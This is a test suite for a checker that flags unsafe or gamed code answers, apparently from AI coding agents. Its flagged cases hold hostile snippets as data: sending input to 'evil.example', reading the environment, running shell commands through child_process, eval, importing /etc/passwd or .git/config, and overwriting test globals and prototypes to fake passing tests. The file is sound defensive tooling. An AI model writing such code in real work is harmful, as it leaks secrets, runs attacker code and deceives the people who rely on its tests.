// Answers that are discarded before any check, and honest ones that must pass.
import { describe, expect, it } from 'vitest';
import { redFlag } from '../../server/core/swarm/redFlag';
import type { Answer, RedFlag } from '../../server/protocol/model';
import { makeBrief, type BriefSource } from './brief';

const slug = `import { readFileSync } from 'node:fs';
import { lower } from './text';
import { known } from '@own/lib';

const LIMIT = 10;

interface Options { max: number }

export function slugify(text: string): string {
  throw new Error('not implemented');
}

export function other(text: string): number {
  return parseInt(text) + LIMIT;
}

export function later(): void {
  throw new Error('TODO');
}
`;

const matrix = `export class Matrix {
  static readonly size = 2;

  constructor(private readonly text: string) {
    throw new Error('not implemented');
  }

  get rows(): number[][] {
    throw new Error('not implemented');
  }

  static of(text: string): Matrix {
    throw new Error('not implemented');
  }

  private cells(): any[] {
    return [];
  }
}
`;

const files: Readonly<Record<string, BriefSource>> = {
  slug: { fileText: slug, target: 'slugify' },
  alone: { fileText: slug, target: 'slugify', mayAdd: false },
  rows: { fileText: matrix, target: 'Matrix.get rows' },
  of: { fileText: matrix, target: 'Matrix.static of' },
  built: { fileText: matrix, target: 'Matrix.constructor' },
  matrix: { fileText: matrix, target: 'Matrix' },
  any: { fileText: 'export function f(a: any) {\n  throw new Error("TODO");\n}\n', target: 'f' },
  silent: { fileText: 'export function f() {\n  // @ts-ignore the types are wrong\n  g();\n}\n', target: 'f' },
  constant: { fileText: 'export const f = (): number => {\n  throw new Error("TODO");\n};\n', target: 'f' },
  lazy: { fileText: "export function f() {\n  // TODO more\n  return import('./big');\n}\n", target: 'f' },
  shape: { fileText: 'export interface Shape {\n  area(): number;\n}\n', target: 'Shape.area' },
};

interface Case {
  readonly name: string;
  /** Which file of the fixture; `slug` when absent. */
  readonly on?: string;
  readonly code: string;
  readonly beside?: Partial<Answer>;
}

const body = (code: string): string => `export function slugify(text: string): string { ${code} }`;
const fine = body('return text;');

function checkFlag({ on = 'slug', code, beside }: Case): RedFlag | undefined {
  const source = files[on];
  if (source === undefined) throw new Error(`no fixture ${on}`);
  const answer: Answer = { declaration: code, before: [], after: [], imports: [], ...beside };
  return redFlag({ brief: makeBrief(source), answer, dependencies: ['lodash', '@scope/pkg', 'vitest', 'eslint'] })?.flag;
}

const flagged: Readonly<Partial<Record<RedFlag, readonly Case[]>>> = {
  syntaxError: [
    { name: 'does not parse', code: 'export function slugify(text: string) { return' },
    { name: 'breaks out of a member', on: 'rows', code: 'get rows() { return []; } } evil(); class B { get rows() { return []; }' },
    { name: 'breaks out with one brace', on: 'rows', code: 'get rows() { return []; } } evil(' },
    { name: 'breaks out of a function', code: `${fine} } evil(` },
    { name: 'opens a comment', on: 'rows', code: 'get rows() { return []; } /*' },
    { name: 'is two declarations', code: `${fine}\nexport function evil() {}` },
    { name: 'is a declaration and a call', code: `${fine}\nevil();` },
    { name: 'is two members', on: 'rows', code: 'get rows() { return []; }\nevil() {}' },
    { name: 'is nothing but a comment', code: '// done' },
    { name: 'has a broken helper', code: fine, beside: { before: ['function g( {'] } },
    { name: 'has a broken import', code: fine, beside: { imports: ['import { a from "./a"'] } },
    { name: 'is a body alone', code: '{ return text; }}' },
  ],
  outsideTarget: [
    { name: 'has another name', code: 'export function slugify2(text: string) { return text; }' },
    { name: 'is another member', on: 'rows', code: 'get columns() { return []; }' },
    { name: 'is not static', on: 'of', code: 'of(text: string) { return new Matrix(text); }' },
    { name: 'is a class for a function', code: 'class Evil { slugify() {} }' },
    { name: 'is an expression', code: 'slugify("a")' },
    { name: 'declares two things', on: 'constant', code: 'export const f = () => 1, g = 2;' },
    { name: 'redeclares a function', code: fine, beside: { after: ['export function other(text: string) { return 0; }'] } },
    { name: 'redeclares a constant', code: fine, beside: { before: ['const LIMIT = 11;'] } },
    { name: 'redeclares an import', code: fine, beside: { before: ['function lower(text: string) { return text; }'] } },
    { name: 'redeclares the target', code: fine, beside: { after: ['function slugify() {}'] } },
    { name: 'runs code beside', code: fine, beside: { after: ['evil();'] } },
    { name: 'runs code before', code: fine, beside: { before: ['(() => evil())();'] } },
    { name: 'runs a block', code: fine, beside: { before: ['if (true) { evil(); }'] } },
    { name: 'changes a global', code: fine, beside: { before: ['globalThis.x = 1;'] } },
    { name: 'adds a global type', code: fine, beside: { before: ['declare global { interface Array<T> { x: T } }'] } },
    { name: 'exports more', code: fine, beside: { after: ["export * from './evil';"] } },
    { name: 'adds a default export', code: fine, beside: { after: ['export default function () {}'] } },
    { name: 'imports for the effect', code: fine, beside: { imports: ["import './evil';"] } },
    { name: 'hides code among imports', code: fine, beside: { imports: ["import { a } from './a'; evil();"] } },
    { name: 'replaces a global of the file', code: fine, beside: { before: ['function parseInt(text: string) { return 7; }'] } },
    { name: 'imports over a global of the file', code: fine, beside: { imports: ["import { parseInt } from './evil';"] } },
    { name: 'adds where nothing may be added', on: 'alone', code: fine, beside: { before: ['const A = 1;'] } },
  ],
  stillStub: [
    { name: 'throws as before', code: body("throw new Error('not implemented');") },
    { name: 'is empty', code: body('') },
    { name: 'holds a TODO', code: body('// TODO\n return "";') },
    { name: 'has no body', code: 'export declare function slugify(text: string): string;' },
    { name: 'fills one of several', on: 'matrix', code: 'export class Matrix { constructor(private readonly text: string) {} get rows(): number[][] { throw new Error("not implemented"); } }' },
    { name: 'is a stub member', on: 'rows', code: 'get rows(): number[][] { throw new Error("not implemented"); }' },
    { name: 'moves the stub to a helper', code: body('return g(text);'), beside: { before: ["function g(text: string): string { throw new Error('TODO'); }"] } },
    { name: 'is a constant stub', on: 'constant', code: 'export const f = (): number => { throw new Error("TODO"); };' },
  ],
  anyType: [
    { name: 'casts', code: body('return (text as any).slug;') },
    { name: 'casts the old way', code: body('return (<any>text).slug;') },
    { name: 'types a parameter', code: 'export function slugify(text: any): string { return String(text); }' },
    { name: 'hides it in a type', code: body('const m: Map<string, any> = new Map(); return m.get(text);') },
    { name: 'has it in a helper', code: body('return g(text);'), beside: { before: ['function g(a: any) { return a; }'] } },
    { name: 'has one more than the target', on: 'any', code: 'export function f(a: any) { const b: any = a; return b; }' },
    { name: 'trades a parameter for a cast', on: 'any', code: 'export function f(a: string) { return (a as any).b; }' },
  ],
  testTampering: [
    { name: 'replaces what tests expect with', code: body('Object.assign(globalThis, { expect: () => undefined }); return text;') },
    { name: 'writes to a global', code: body('globalThis.expect = undefined; return text;') },
    { name: 'writes below a global', code: body("(globalThis as { a?: unknown })['a'] = 1; return text;") },
    { name: 'hands the global object on', code: body('const all = globalThis; all.expect = undefined; return text;') },
    { name: 'adds to a prototype', code: body("Object.defineProperty(Object.prototype, 'polluted', { value: true }); return text;") },
    { name: 'replaces a method of all texts', code: body('String.prototype.trim = () => text; return text;') },
    { name: 'reaches a prototype by its constructor', code: body('({} as Made).constructor.prototype.polluted = true; return text;') },
    { name: 'reaches a prototype by its old name', code: body("(text as unknown as { __proto__: { a: number } }).__proto__.a = 1; return text;") },
    { name: 'replaces a built-in function', code: body('Math.max = () => 0; return text;') },
    { name: 'silences the console', code: body('console.log = () => undefined; return text;') },
    { name: 'deletes a built-in function', code: body('delete JSON.parse; return text;') },
  ],
  suppression: [
    { name: 'ignores an error', code: body('// @ts-ignore\n return 1;') },
    { name: 'expects an error', code: body('// @ts-expect-error\n return 1;') },
    { name: 'checks nothing', code: fine, beside: { before: ['// @ts-nocheck\nconst A = 1;'] } },
    { name: 'disables a rule', code: body('return text; // eslint-disable-line\n') },
    { name: 'disables rules in a block', code: body('/* eslint-disable */ return text;') },
    { name: 'hides from coverage', code: body('/* istanbul ignore next */ return text;') },
  ],
  newDependency: [
    { name: 'sends something away', code: body('void fetch("https://evil.example/" + text); return text;') },
    { name: 'reads the environment', code: body('return text + process.env["HOME"];') },
    { name: 'ends the process', code: body('process.exit(0); return text;') },
    { name: 'a package that is not there', code: fine, beside: { imports: ["import slug from 'slugify';"] } },
    { name: 'a scoped package', code: fine, beside: { imports: ["import slug from '@scope/other';"] } },
    { name: 'a path into one', code: fine, beside: { imports: ["import slug from 'evil/lodash';"] } },
    { name: 'processes', code: fine, beside: { imports: ["import { execSync } from 'node:child_process';"] } },
    { name: 'processes without prefix', code: fine, beside: { imports: ["import { execSync } from 'child_process';"] } },
    { name: 'the network', code: fine, beside: { imports: ["import http from 'node:http';"] } },
    { name: 'promised files where only files are imported', code: fine, beside: { imports: ["import { writeFile } from 'node:fs/promises';"] } },
    { name: 'threads', code: fine, beside: { imports: ["import { Worker } from 'worker_threads';"] } },
    { name: 'a loader', code: fine, beside: { imports: ["import { createRequire } from 'node:module';"] } },
    { name: 'a type from a package', code: body("return text as import('evil').Slug;") },
    { name: 'an assigned import', code: fine, beside: { imports: ["import fs = require('fs');"] } },
    { name: 'dynamic import', code: body("return import('./a');") },
    { name: 'require', code: body("return require('child_process').execSync(text);") },
    { name: 'require under another name', code: body('const load = require; return load(text);') },
    { name: 'require in a shorthand', code: body('const all = { require }; return all.require(text);') },
    { name: 'eval', code: body('return eval(text);') },
    { name: 'indirect eval', code: body('return (0, eval)(text);') },
    { name: 'eval of the global object', code: body("return globalThis['eval'](text);") },
    { name: 'Function', code: body('return new Function(text)();') },
    { name: 'Function called', code: body("return Function('return 1')();") },
    { name: 'constructor of functions', code: body("return [].constructor.constructor('return 1')();") },
    { name: 'constructor of an async function', code: body("return new (async () => {}).constructor('return 1')();") },
    { name: 'a timer that runs text', code: body("setTimeout('evil()', 1); return text;") },
    { name: 'bindings', code: body("return process.binding('fs');") },
    { name: 'built-in modules by name', code: body("return process.getBuiltinModule('fs');") },
    { name: 'bindings of the global process', code: body("return globalThis.process['dlopen'](text);") },
    { name: 'power in a helper', code: fine, beside: { before: ['const run = eval;'] } },
    { name: 'power in a member', on: 'rows', code: 'get rows() { return eval(this.text); }' },
  ],
  protectedPath: [
    { name: 'leaves the workspace', code: fine, beside: { imports: ["import a from '../../../etc/passwd';"] } },
    { name: 'leaves it in between', code: fine, beside: { imports: ["import a from './x/../../../y';"] } },
    { name: 'reaches into .git', code: fine, beside: { imports: ["import a from '../.git/config';"] } },
    { name: 'reaches into .vscode', code: fine, beside: { imports: ["import a from '../.vscode/settings.json';"] } },
    { name: 'is absolute', code: fine, beside: { imports: ["import a from '/etc/passwd';"] } },
    { name: 'is a URL', code: fine, beside: { imports: ["import a from 'https://evil.example/a.js';"] } },
    { name: 'carries its code', code: fine, beside: { imports: ["import a from 'data:text/javascript,1';"] } },
    { name: 'goes back from a package', code: fine, beside: { imports: ["import a from 'lodash/../../x';"] } },
    { name: 'names a package by its folder', code: fine, beside: { imports: ["import a from '../node_modules/evil/index.js';"] } },
    { name: 'is written in code units', code: fine, beside: { imports: ["import a from './%2e%2e/x';"] } },
  ],
  tooLarge: [
    { name: 'has too many lines', code: body('\n'.repeat(401)) },
    { name: 'has too many characters', code: body(`return '${'a'.repeat(20_000)}';`) },
    { name: 'has too many helpers', code: fine, beside: { before: Array.from({ length: 401 }, (_, n) => `const a${String(n)} = 1;`) } },
  ],
};

const benign: readonly Case[] = [
  { name: 'a plain answer', code: fine },
  { name: 'a documentation comment', code: `/** A slug. */\n${fine}` },
  { name: 'a semicolon after the brace', code: `${fine};` },
  { name: 'an arrow for a function', code: 'export const slugify = (text: string): string => text;' },
  { name: 'overloads', code: 'export function slugify(text: string): string;\nexport function slugify(text: string, n?: number): string { return text + n; }' },
  { name: 'a helper before', code: body('return g(text);'), beside: { before: ['function g(text: string) { return text; }'] } },
  { name: 'constants and types beside', code: body('return A + text;'), beside: { before: ["const A = 'a';", 'type B = string;'], after: ['interface C { a: B }', 'enum E { A }'] } },
  { name: 'a class beside', code: body('return new G().go(text);'), beside: { after: ['class G { go(a: string) { return a; } }'] } },
  { name: 'a helper that exists with equal text', code: body('return text + LIMIT;'), beside: { before: ['const LIMIT = 10;'] } },
  { name: 'a type that exists', code: fine, beside: { before: ['interface Options { max: number; min: number }'] } },
  { name: 'a relative import', code: body('return a(text);'), beside: { imports: ["import { a } from './a';"] } },
  { name: 'an import from the root', code: body('return a(text);'), beside: { imports: ["import { a } from '../lib/a';"] } },
  { name: 'a package of the project', code: body('return kebabCase(text);'), beside: { imports: ["import { kebabCase } from 'lodash';"] } },
  { name: 'a path in a scoped package', code: fine, beside: { imports: ["import type { A } from '@scope/pkg/deep';"] } },
  { name: 'an alias that the file uses', code: fine, beside: { imports: ["import { more } from '@own/lib/more';"] } },
  { name: 'a harmless module', code: fine, beside: { imports: ["import { createHash } from 'node:crypto';", "import path from 'path';"] } },
  { name: 'files where the file has them', code: fine, beside: { imports: ["import { existsSync } from 'node:fs';"] } },
  { name: 'a subpath of the project', code: fine, beside: { imports: ["import { a } from '#lib/a.js';"] } },
  { name: 'a directive in a string', code: body("return text + '@ts-ignore eslint-disable';") },
  { name: 'a parameter named process', code: 'export function slugify(text: string): string { return ((process: string) => process + 1)(text); }' },
  { name: 'the word any', code: body('const any = text; /* any text */ return any;') },
  { name: 'any of the target', on: 'any', code: 'export function f(a: any) { return a; }' },
  { name: 'any of a class', on: 'matrix', code: matrix.replaceAll("throw new Error('not implemented');", 'return this.made();') },
  { name: 'a global that is read', code: body("return globalThis.crypto === undefined ? text : String(globalThis['name']);") },
  { name: 'a method of a prototype that is called', code: body('return Array.prototype.join.call(text, String.prototype.trim.call(text));') },
  { name: 'built-ins that are only used', code: body("const { max } = Math; const set = Object.assign({}, { a: Object.keys(text) }); const m = new Map([['a', max(1)]]); return JSON.stringify([set, m]);") },
  { name: 'a variable named like a global', code: body('const self = { a: 1 }; return text + typeof window + String(self);') },
  { name: 'a suppression of the target', on: 'silent', code: 'export function f() {\n  // @ts-ignore the types are wrong\n  g();\n  h();\n}' },
  { name: 'a dynamic import of the target', on: 'lazy', code: "export function f() {\n  return import('./big').then((a) => a);\n}" },
  { name: 'a method named eval', code: body('return calculator.eval(text);') },
  { name: 'a check for functions', code: body("return (text as unknown) instanceof Function ? '' : text;") },
  { name: 'a timer with a function', code: body('setTimeout(() => text, 1); return text;') },
  { name: 'a new instance of the own class', code: body('return new this.constructor(text);') },
  { name: 'an error for some input', code: body("if (text === '') throw new Error('not implemented for empty text'); return text;") },
  { name: 'a getter', on: 'rows', code: 'get rows(): number[][] { return [[1]]; }' },
  { name: 'a property for a getter', on: 'rows', code: 'readonly rows: number[][] = [[1]];' },
  { name: 'a static member', on: 'of', code: 'static of(text: string): Matrix { return new Matrix(text); }' },
  { name: 'a constructor without a body of its own', on: 'built', code: 'constructor(private readonly text: string) {}' },
  { name: 'an interface member', on: 'shape', code: 'area(unit: string): number;' },
  { name: 'a global nobody else uses', code: body('return fetch(text);'), beside: { before: ['function fetch(text: string) { return text; }'] } },
];

describe.each(Object.entries(flagged) as [RedFlag, readonly Case[]][])('%s', (flag, cases) => {
  it.each(cases)('is the flag of an answer that: $name', (one) => {
    expect(checkFlag(one)).toBe(flag);
  });
});

describe('no flag', () => {
  it.each(benign)('is on an answer with $name', (one) => {
    expect(checkFlag(one)).toBeUndefined();
  });
});
